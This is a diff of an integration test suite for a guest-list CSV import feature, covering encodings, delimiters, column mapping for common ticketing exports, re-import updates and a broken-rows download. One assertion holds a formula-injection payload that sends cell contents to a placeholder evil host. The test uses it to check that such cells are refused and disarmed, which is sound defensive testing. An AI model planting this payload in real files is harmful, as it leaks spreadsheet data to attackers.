@@ -3,7 +3,7 @@ import { randomUUID } from 'node:crypto';
 import { eq } from 'drizzle-orm';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { tickets } from '@edgewise/db';
-import type { GuestListChanged, GuestListEntry, ImportPreview } from '@edgewise/shared';
+import type { GuestListChanged, GuestListEntry, ImportColumn, ImportPreview, ImportRow } from '@edgewise/shared';
 import { aGuest, anOpenEvent, anOrganiser, type Organiser } from '../fixtures/builders';
 import { aSocket, dbKinds, startServer, type TestServer } from '../fixtures/server';
 
@@ -31,13 +31,21 @@ describe.each(dbKinds)('guest-list import (%s)', (kind) => {
   describe('preview', () => {
     it('gives each row of a messy export its verdict and writes nothing', async () => {
       const eventId = await anOpenEvent(org);
-      await aGuest(org, eventId, { name: 'Existing Person', email: 'existing@example.org' });
+      const existing = await aGuest(org, eventId, { name: 'Existing Person', email: 'existing@example.org', company: 'New Co', role: 'Partner' });
 
       const res = await preview(eventId, fixture('mixed.csv'));
       expect(res.status).toBe(200);
       const body = res.body as ImportPreview;
-      expect(body.columns).toEqual(['name', 'email', 'company', 'role', 'firstTime', 'host']);
-      expect(body.unknownColumns).toEqual(['Dietary']);
+      expect(body).toMatchObject({ encoding: 'utf-8', bom: true, delimiter: ',' });
+      expect(body.columns.map((c) => [c.header, c.field])).toEqual([
+        ['Full Name', 'name'],
+        ['E-mail', 'email'],
+        ['Organisation', 'company'],
+        ['Job Title', 'role'],
+        ['First time', 'firstTime'],
+        ['Host', 'host'],
+        ['Dietary', null],
+      ]);
 
       const verdicts = body.rows.map((r) => [r.line, r.status, r.problems.map((p) => `${p.field}:${p.code}`).join(' ')]);
       expect(verdicts).toEqual([
@@ -47,7 +55,7 @@ describe.each(dbKinds)('guest-list import (%s)', (kind) => {
         [6, 'error', 'name:required'],
         [7, 'error', 'email:invalid_email'],
         [8, 'duplicate', 'email:duplicate_in_file'],
-        [9, 'duplicate', 'email:already_registered'],
+        [9, 'update', ''],
         [10, 'add', ''],
         [11, 'error', 'name:too_long'],
         [12, 'error', 'company:formula_injection'],
@@ -56,14 +64,14 @@ describe.each(dbKinds)('guest-list import (%s)', (kind) => {
         [15, 'error', 'row:too_many_cells'],
         [16, 'add', ''],
       ]);
-      expect(body.summary).toEqual({ add: 5, error: 7, duplicate: 2 });
+      expect(body.summary).toEqual({ add: 5, update: 1, unchanged: 0, error: 7, duplicate: 1 });
 
       const row = (line: number) => body.rows.find((r) => r.line === line);
       // Quoted commas and doubled quotes come through as written; yes/no columns become booleans.
       expect(row(2)?.data).toEqual({ name: 'Ana Sousa', email: 'ana@example.org', company: 'Tidewater, Lda', role: 'Designer', firstTime: true, host: false });
       expect(row(3)?.data).toMatchObject({ name: 'Bruno "Bru" Lima', firstTime: false, host: true });
       expect(row(8)?.problems[0]?.message).toBe('same email as line 2');
-      expect(row(9)?.problems[0]?.message).toBe('already on the guest list as Existing Person');
+      expect(row(9)).toMatchObject({ attendeeId: existing.id, changes: ['company', 'role'] });
       expect(row(5)?.problems[0]?.message).toMatch(/= \+ - @ are refused/);
       expect(row(10)?.data.name).toHaveLength(120);
       expect(row(13)?.data).toMatchObject({ name: 'Дмитрий Иванов', company: 'Яндекс', firstTime: true });
@@ -75,16 +83,20 @@ describe.each(dbKinds)('guest-list import (%s)', (kind) => {
       const eventId = await anOpenEvent(org);
       const res = await preview(eventId, fixture('semicolon-first-last.csv'));
       expect(res.status).toBe(200);
-      expect(res.body.rows.map((r: ImportPreview['rows'][number]) => r.data.name)).toEqual(['Nora Silva', 'Otto']);
+      expect(res.body.delimiter).toBe(';');
+      expect(res.body.rows.map((r: ImportRow) => r.data.name)).toEqual(['Nora Silva', 'Otto']);
       expect(res.body.rows[0].data.company).toBe('Atlântico, SA');
     });
 
-    it('refuses a Latin-1 file with csv_encoding and asks for "CSV UTF-8" instead of guessing', async () => {
+    it('converts a Latin-1 file and shows the converted names', async () => {
       const eventId = await anOpenEvent(org);
       const res = await preview(eventId, fixture('latin1.csv'));
-      expect(res.status).toBe(400);
-      expect(res.body.error.code).toBe('csv_encoding');
-      expect(res.body.error.message).toContain('CSV UTF-8');
+      expect(res.status).toBe(200);
+      expect(res.body.encoding).toBe('windows-1252');
+      expect(res.body.rows.map((r: ImportRow) => [r.data.name, r.data.company])).toEqual([
+        ['José Müller', 'Café Société'],
+        ['François Ørsted', 'Ærø'],
+      ]);
     });
 
     it('refuses unreadable files with csv_malformed and says where', async () => {
@@ -98,6 +110,8 @@ describe.each(dbKinds)('guest-list import (%s)', (kind) => {
       expect(noName.status).toBe(400);
       expect(noName.body.error.code).toBe('csv_malformed');
       expect(noName.body.error.message).toContain('needs a name column');
+      // ...with the columns it found, so the organiser can map the one that holds names.
+      expect(noName.body.error.details.columns.map((c: ImportColumn) => c.header)).toEqual(['email', 'company']);
 
       for (const empty of ['', '\uFEFF', '\r\n\r\n']) {
         const res = await preview(eventId, empty);
@@ -125,8 +139,105 @@ describe.each(dbKinds)('guest-list import (%s)', (kind) => {
     });
   });
 
+  describe('files from where guest lists live', () => {
+    const columnsOf = (body: ImportPreview) => body.columns.filter((c) => c.field).map((c) => `${c.header} -> ${c.field}`);
+    const rowsOf = (body: ImportPreview) => body.rows.map((r) => [r.status, r.data.name, r.data.email ?? null, r.data.company ?? null, r.data.role ?? null]);
+
+    it("reads Eventbrite's attendee report", async () => {
+      const eventId = await anOpenEvent(org);
+      const body = (await preview(eventId, fixture('eventbrite.csv'))).body as ImportPreview;
+      expect(columnsOf(body)).toEqual(['First Name -> firstName', 'Last Name -> lastName', 'Email -> email', 'Job Title -> role', 'Company -> company']);
+      expect(rowsOf(body)).toEqual([
+        ['add', 'Amélie Durand', 'amelie@example.org', 'Atelier Nord, SARL', 'Product Designer'],
+        ['add', 'Kwame Mensah', 'kwame@example.org', 'Kente Labs', 'CTO'],
+      ]);
+    });
+
+    it("reads pretix's semicolon order export, taking the attendee's email over the buyer's", async () => {
+      const eventId = await anOpenEvent(org);
+      const body = (await preview(eventId, fixture('pretix-semicolon.csv'))).body as ImportPreview;
+      expect(body.delimiter).toBe(';');
+      expect(columnsOf(body)).toEqual([
+        'Attendee name -> name',
+        'Attendee name: Given name -> firstName',
+        'Attendee name: Family name -> lastName',
+        'Attendee email -> email',
+        'Company -> company',
+      ]);
+      expect(rowsOf(body)).toEqual([
+        ['add', 'Jürgen Weiß', 'juergen@example.org', 'Weiß & Söhne GmbH', null],
+        ['add', 'Lena Vogel', 'lena@example.org', 'Weiß & Söhne GmbH', null],
+      ]);
+    });
+
+    it("reads Luma's guest export", async () => {
+      const eventId = await anOpenEvent(org);
+      const body = (await preview(eventId, fixture('luma.csv'))).body as ImportPreview;
+      expect(columnsOf(body)).toEqual(['name -> name', 'first_name -> firstName', 'last_name -> lastName', 'email -> email']);
+      expect(rowsOf(body)).toEqual([
+        ['add', 'Priya Nair', 'priya@example.org', null, null],
+        ['add', 'Tomás Ortega', 'tomas@example.org', null, null],
+      ]);
+    });
+
+    it("reads Meetup's tab-separated RSVP list (names without emails)", async () => {
+      const eventId = await anOpenEvent(org);
+      const body = (await preview(eventId, fixture('meetup-tab.csv'))).body as ImportPreview;
+      expect(body.delimiter).toBe('\t');
+      expect(columnsOf(body)).toEqual(['Name -> name', 'Title -> role']);
+      expect(body.rows.map((r) => [r.status, r.data.name])).toEqual([
+        ['add', 'Siobhán Kelly'],
+        ['add', 'Yusuf Demir'],
+      ]);
+    });
+
+    it("reads a Google Forms sheet, with the form's own question mapped by hand", async () => {
+      const eventId = await anOpenEvent(org);
+      const auto = (await preview(eventId, fixture('google-forms.csv'))).body as ImportPreview;
+      expect(columnsOf(auto)).toEqual(['Email Address -> email', 'Full name -> name', 'Company -> company', 'Job Title -> role']);
+      const res = await upload(`/api/events/${eventId}/attendees/import/preview?mapping=5:firstTime,0:ignore`, fixture('google-forms.csv'));
+      expect(res.status).toBe(200);
+      const body = res.body as ImportPreview;
+      expect(body.columns[5]).toEqual({ index: 5, header: 'Is this your first time at one of our events?', field: 'firstTime', by: 'manual' });
+      expect(body.rows.map((r) => [r.data.name, r.data.firstTime])).toEqual([
+        ['María José Pérez', true],
+        ['Hiro Tanaka', false],
+      ]);
+      const imported = await upload(`/api/events/${eventId}/attendees/import?mapping=5:firstTime`, fixture('google-forms.csv'));
+      expect(imported.status).toBe(201);
+      expect((await guestList(eventId)).map((g) => [g.name, g.firstTime, g.role])).toEqual([
+        ['Hiro Tanaka', false, 'Engineer'],
+        ['María José Pérez', true, 'Founder'],
+      ]);
+
+      for (const bad of ['5:nickname', 'x:name', '5:name,6', '99:name']) {
+        const refused = await upload(`/api/events/${eventId}/attendees/import/preview?mapping=${encodeURIComponent(bad)}`, fixture('google-forms.csv'));
+        expect(refused.status).toBe(400);
+      }
+    });
+
+    it('converts a Windows-1252 file (curly quotes, euro sign) and an Excel UTF-16 file', async () => {
+      const eventId = await anOpenEvent(org);
+      const cp = (await preview(eventId, fixture('windows-1252.csv'))).body as ImportPreview;
+      expect(cp).toMatchObject({ encoding: 'windows-1252', delimiter: ';' });
+      expect(rowsOf(cp)).toEqual([
+        ['add', 'Renée O’Connor', 'renee@example.org', 'Café “Le Zèbre”', 'Sommelière'],
+        ['add', 'Zoë Müller', 'zoe@example.org', 'Straße € Partner', 'CFO'],
+      ]);
+      const u16 = (await preview(eventId, fixture('excel-utf16.csv'))).body as ImportPreview;
+      expect(u16).toMatchObject({ encoding: 'utf-16le', bom: true, delimiter: '\t' });
+      expect(rowsOf(u16)).toEqual([
+        ['add', '山田 太郎', 'yamada@example.org', 'Sakura KK', 'CEO'],
+        ['add', 'Øystein Løvland', 'oystein@example.org', 'Fjord AS', 'Buyer'],
+      ]);
+      const res = await commit(eventId, fixture('windows-1252.csv'));
+      expect(res.status).toBe(201);
+      expect((await guestList(eventId)).map((g) => g.name)).toEqual(['Renée O’Connor', 'Zoë Müller']);
+    });
+  });
+
   describe('commit', () => {
-    it('imports nothing at all when any row has an error, and answers with the preview', async () => {
+    it('imports nothing at all when any row is broken, and answers with the preview', async () => {
       const eventId = await anOpenEvent(org);
       await aGuest(org, eventId, { email: 'existing@example.org' });
       const before = await guestList(eventId);
@@ -135,12 +246,39 @@ describe.each(dbKinds)('guest-list import (%s)', (kind) => {
         const res = await commit(eventId, fixture('mixed.csv'), skip);
         expect(res.status).toBe(422);
         expect(res.body.error.code).toBe('csv_has_errors');
-        expect(res.body.error.details.summary).toEqual({ add: 5, error: 7, duplicate: 2 });
+        expect(res.body.error.details.summary).toEqual({ add: 5, update: 1, unchanged: 0, error: 7, duplicate: 1 });
         expect(res.body.error.details.rows).toHaveLength(14);
       }
       const after = await guestList(eventId);
       expect(after.length).toBe(before.length);
       expect(after).toEqual(before);
+    });
+
+    it('imports the valid rows and skips the broken ones when told, and hands the broken ones back with their reasons', async () => {
+      const eventId = await anOpenEvent(org);
+      await aGuest(org, eventId, { name: 'Existing Person', email: 'existing@example.org', company: 'New Co' });
+
+      const res = await upload(`/api/events/${eventId}/attendees/import?skipInvalid=true`, fixture('mixed.csv'));
+      expect(res.status).toBe(201);
+      expect(res.body).toEqual({ added: 5, updated: 1, unchanged: 0, skippedDuplicates: 1, skippedErrors: 7 });
+      const list = await guestList(eventId);
+      expect(list).toHaveLength(6);
+      expect(list.find((g) => g.email === 'existing@example.org')).toMatchObject({ name: 'Existing Person', company: 'Old Co', role: 'Advisor' });
+
+      const broken = await upload(`/api/events/${eventId}/attendees/import/broken-rows.csv`, fixture('mixed.csv'));
+      expect(broken.status).toBe(200);
+      expect(broken.headers['content-type']).toMatch(/^text\/csv/);
+      expect(broken.headers['content-disposition']).toContain('broken-rows.csv');
+      const text = broken.text;
+      expect(text.startsWith('\uFEFF"Line","Full Name","E-mail","Organisation","Job Title","First time","Host","Dietary","Problem"\r\n')).toBe(true);
+      const lines = text.slice(1).trimEnd().split('\r\n');
+      expect(lines).toHaveLength(1 + 8);
+      // The formula row comes back disarmed (the exports' rule), with its reason in words.
+      expect(lines[1]).toBe(
+        `5,"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")","mallory@example.org","Evil Co","CEO","no","no","","Name: cells starting with = + - @ are refused: spreadsheets run them as formulas"`,
+      );
+      expect(lines[4]).toBe('8,"Ana Again","ANA@Example.org","Tidewater","Designer","no","no","","Email: same email as line 2"');
+      expect(text).toContain('"First time: ""maybe"" is not yes or no"');
     });
 
     it('adds every row of a clean file (BOM, CRLF, quoted commas) with a ticket each, in one go', async () => {
@@ -152,7 +290,7 @@ describe.each(dbKinds)('guest-list import (%s)', (kind) => {
       try {
         const res = await commit(eventId, fixture('clean-bom-crlf.csv'));
         expect(res.status).toBe(201);
-        expect(res.body).toEqual({ added: 3, skippedDuplicates: 0 });
+        expect(res.body).toEqual({ added: 3, updated: 0, unchanged: 0, skippedDuplicates: 0, skippedErrors: 0 });
 
         const list = await guestList(eventId);
         expect(list.map((g) => g.name)).toEqual(['Beatriz Costa', 'Chen Wei', 'O\'Brien <Dev> & "Sons"']);
@@ -178,7 +316,7 @@ describe.each(dbKinds)('guest-list import (%s)', (kind) => {
       const eventId = await anOpenEvent(org);
       const refused = await commit(eventId, fixture('with-duplicates.csv'));
       expect(refused.status).toBe(422);
-      expect(refused.body.error.details.summary).toEqual({ add: 3, error: 0, duplicate: 1 });
+      expect(refused.body.error.details.summary).toEqual({ add: 3, update: 0, unchanged: 0, error: 0, duplicate: 1 });
       expect(await guestList(eventId)).toEqual([]);
 
       const explicitNo = await commit(eventId, fixture('with-duplicates.csv'), false);
@@ -186,19 +324,32 @@ describe.each(dbKinds)('guest-list import (%s)', (kind) => {
 
       const res = await commit(eventId, fixture('with-duplicates.csv'), true);
       expect(res.status).toBe(201);
-      expect(res.body).toEqual({ added: 3, skippedDuplicates: 1 });
+      expect(res.body).toEqual({ added: 3, updated: 0, unchanged: 0, skippedDuplicates: 1, skippedErrors: 0 });
       // The first line with an email wins; the later repeat is the one skipped.
       expect((await guestList(eventId)).map((g) => g.name)).toEqual(['Hugo Reis', 'Inês Faria', 'Joana Pinto']);
     });
 
-    it('treats a second upload of the same file as all duplicates', async () => {
+    it('updates guests matched by email on a re-import, and leaves unchanged ones alone', async () => {
       const eventId = await anOpenEvent(org);
       expect((await commit(eventId, fixture('clean-bom-crlf.csv'))).status).toBe(201);
+      const before = await guestList(eventId);
       const again = await preview(eventId, fixture('clean-bom-crlf.csv'));
-      expect(again.body.summary).toEqual({ add: 0, error: 0, duplicate: 3 });
-      const res = await commit(eventId, fixture('clean-bom-crlf.csv'), true);
-      expect(res.body).toEqual({ added: 0, skippedDuplicates: 3 });
-      expect(await guestList(eventId)).toHaveLength(3);
+      expect(again.body.summary).toEqual({ add: 0, update: 0, unchanged: 3, error: 0, duplicate: 0 });
+
+      const changed = 'email,name,company,host\r\nchen@example.org,Chen Wei,Tide Capital,no\r\nnew@example.org,Nova Neves,,\r\n';
+      const shown = await preview(eventId, changed);
+      expect(shown.body.rows.map((r: ImportRow) => [r.status, r.changes])).toEqual([
+        ['update', ['company', 'host']],
+        ['add', undefined],
+      ]);
+      const res = await commit(eventId, changed);
+      expect(res.body).toEqual({ added: 1, updated: 1, unchanged: 0, skippedDuplicates: 0, skippedErrors: 0 });
+      const after = await guestList(eventId);
+      expect(after).toHaveLength(4);
+      const chen = after.find((g) => g.email === 'chen@example.org');
+      // Same guest, same ticket: only what the file says changed.
+      expect(chen).toMatchObject({ id: before.find((g) => g.email === 'chen@example.org')?.id, company: 'Tide Capital', host: false, role: 'Investor' });
+      expect(chen?.ticketIssuedAt).toBe(before.find((g) => g.email === 'chen@example.org')?.ticketIssuedAt);
     });
 
     it('imports a full-size list of 5000 rows atomically', async () => {
@@ -206,7 +357,7 @@ describe.each(dbKinds)('guest-list import (%s)', (kind) => {
       const rows = Array.from({ length: 5000 }, (_, i) => `Guest ${String(i).padStart(4, '0')},guest${i}@example.org,Company ${i % 37}`);
       const res = await commit(eventId, ['name,email,company', ...rows].join('\r\n'));
       expect(res.status).toBe(201);
-      expect(res.body).toEqual({ added: 5000, skippedDuplicates: 0 });
+      expect(res.body).toEqual({ added: 5000, updated: 0, unchanged: 0, skippedDuplicates: 0, skippedErrors: 0 });
       const stored = await sut.database.db.select({ id: tickets.id }).from(tickets).where(eq(tickets.eventId, eventId));
       expect(stored).toHaveLength(5000);
     });
